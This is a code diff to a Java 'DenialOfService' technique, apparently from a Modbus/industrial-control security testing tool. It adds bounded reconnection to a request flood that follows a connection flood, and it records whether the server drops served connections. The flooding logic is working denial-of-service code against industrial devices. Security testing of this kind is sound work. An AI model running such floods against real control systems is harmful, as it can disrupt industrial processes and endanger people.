@@ -88,18 +88,27 @@ public final class DenialOfService extends AbstractTechnique {
       int sent = 0;
       int exceptions = 0;
       long end = System.nanoTime() + budgetNanos;
-      try (ModbusWire m = ModbusWire.connect(a, unit, ctx.ioTimeout())) {
-        while (sent < requests && System.nanoTime() < end) {
-          sent++;
-          try {
-            m.readWords(3, 0, 1);
-            answered++;
-          } catch (ModbusWire.ExceptionResponse e) {
-            exceptions++;
+      // Right after a connection flood the server may still count the flood's connections for a
+      // moment and turn the next one away; reconnect a bounded number of times before giving up.
+      for (int attempt = 0; attempt < 20 && sent < requests && System.nanoTime() < end; attempt++) {
+        try (ModbusWire m = ModbusWire.connect(a, unit, ctx.ioTimeout())) {
+          while (sent < requests && System.nanoTime() < end) {
+            sent++;
+            try {
+              m.readWords(3, 0, 1);
+              answered++;
+            } catch (ModbusWire.ExceptionResponse e) {
+              exceptions++;
+            }
           }
+          f.remove("requestFloodEnded");
+        } catch (IOException e) {
+          f.put("requestFloodEnded", e.getMessage());
+          if (answered > 0) {
+            break; // the server dropped a connection it had served: that is the flood's effect
+          }
+          sent = 0;
         }
-      } catch (IOException e) {
-        f.put("requestFloodEnded", e.getMessage());
       }
       f.put("requestsSent", String.valueOf(sent));
       f.put("requestsAnswered", String.valueOf(answered));
